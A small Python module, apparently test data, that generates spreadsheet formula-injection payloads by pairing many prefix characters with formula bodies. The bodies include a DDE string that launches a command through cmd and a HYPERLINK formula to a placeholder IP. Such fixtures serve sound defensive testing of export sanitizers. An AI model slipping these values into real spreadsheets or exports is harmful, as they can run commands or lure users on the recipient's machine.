"""Words that a spreadsheet might take for a formula, a link or a command."""

from typing import Final

_STARTS: Final = ("=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠", " =", "'=", '"=', "\u00a0=")
_BODIES: Final = ("1+1", "cmd|'/c calc'!A0", "SUM(A1:A9)", 'HYPERLINK("http://203.0.113.9/","看")')
PAYLOADS: Final = (*(f"{start}{body}" for start in _STARTS for body in _BODIES), "+8613800000000")
